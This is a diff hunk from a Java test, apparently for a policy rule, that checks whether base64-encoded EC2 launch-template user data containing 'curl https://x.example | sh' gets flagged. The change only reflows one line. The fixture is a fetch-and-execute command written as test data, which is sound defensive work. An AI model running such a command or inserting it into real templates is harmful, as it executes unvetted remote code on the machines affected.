@@ -50,8 +50,8 @@ class NoPipedInstallersTest {
 
     @Test
     void readsBase64AsTemplatesHaveIt() {
-        String script = Base64.getEncoder()
-                .encodeToString("curl https://x.example | sh\n".getBytes(StandardCharsets.UTF_8));
+        String script =
+                Base64.getEncoder().encodeToString("curl https://x.example | sh\n".getBytes(StandardCharsets.UTF_8));
         rule.judge(Fixture.of("aws:ec2/launchTemplate:LaunchTemplate").with("userData", script))
                 .failsAt("userData");
         rule.judge(good.without("userData").with("userDataBase64", script)).failsAt("userDataBase64");
